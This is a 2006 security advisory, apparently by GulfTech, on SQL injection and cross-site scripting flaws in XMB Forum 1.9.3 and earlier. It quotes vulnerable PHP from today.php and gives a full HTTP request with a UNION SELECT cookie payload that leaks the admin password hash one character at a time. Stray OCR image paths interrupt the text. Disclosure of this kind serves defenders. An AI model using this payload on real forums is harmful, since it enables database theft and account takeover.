XMB Forum Multiple Vulnerabilities
Vendor: XMB Software
Product: XMB Forum
Version: <= 1.9.3
Website: http://www.xmbforum.com/
BID: 16604
CVE: CVE-2006-0778
OSVDB: 23117 23118 23119
SECUNIA: 18821
XMB Forums is a popular forum software written in php and mysql that allows you to open up your own online community or messageboard. There are a number of security issues in XMB Forums that may allow for an attacker to perform SQL injection attacks or cross site scripting attacks against the vulnerable web application. These types of attacks may allow for disclosure of sensitive data such as cookie information or contents from the underlying database.

SQL Injection:
There are a number of SQL Injection issues in XMB Forums. The first of these issues I will talk about is in 'today.php' andis present due to the lack of sanitation when attempting to handle cookie data in regards to password protected forums.

    if ( X_MEMBER ) {
        // let's add fids for passworded forums that the user can access
        $r2 = array();
        foreach ($_COOKIE as $key=>$val) {
            if (preg_match('#^fidpw([0-9]+)$#', $key, $fetch)) {
                $r2[] = "(fid='$fetch[1]' AND password='$val')";
        if (count($r2) > 0) {
            $r = implode(' OR ', $r2);
            $q = $db->query("SELECT fid FROM $table_forums WHERE $r");
            while($f = $db->fetch_array($q)) {
                $fids[] = $f['fid'];The above code, which is taken from 'today.php' never sanitizes the variable $val which makes SQL Injection possible.

GET /today.php HTTP/1.1
Host: xmb
User-Agent: Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.8) Firefox/1.5
Accept-Language: en-us,en;q=0.5
Accept-Encoding: gzip,deflate
Accept-Charset: ISO-8859-1,utf-8;q=0.7,*;q=0.7
Keep-Alive: 300
Connection: keep-alive
Referer: http://xmb/viewthread.php?tid=2&page;=1
Cookie: xmblva=1137629907; xmbuser=james; xmbpw=44cc344d25a2ffe540adbd5678e2394c;
fidpw0=') UNION SELECT uid FROM xmb_members WHERE uid=1 AND MID(password,1,1)=2/*
Cache-Control: max-age=0

For example, the above request would show any topics from the last 24hrs including ones the user does not have access to, and should not see, as long as the user with the uid of 1 has a password hash that starts with the number two. Otherwise only posts that the user has access to will be shown. Also, in addition to this SQL Injection issue are a few others that are a result of the $u2u_select array not being properly sanitized before being passed to several functions. The vulnerable functions are u2u_mod_delete(), u2u_mod_move(), and u2u_mod_markUnread(). These three vulnerable function calls are present in u2u.inc.php

Cross Site Scripting:
In addition to the previously mentioned SQL Injectionissues, there is also a cross site scripting issue in the way the u2u feature handles GPC datawhen composing messages etc.


An attacker could use this vulnerability to steal a users cookiedata and possibly take control of the victims account.

The vendor did not respond to our contact attempts.

James Bercegay of theGulfTech Security Research Team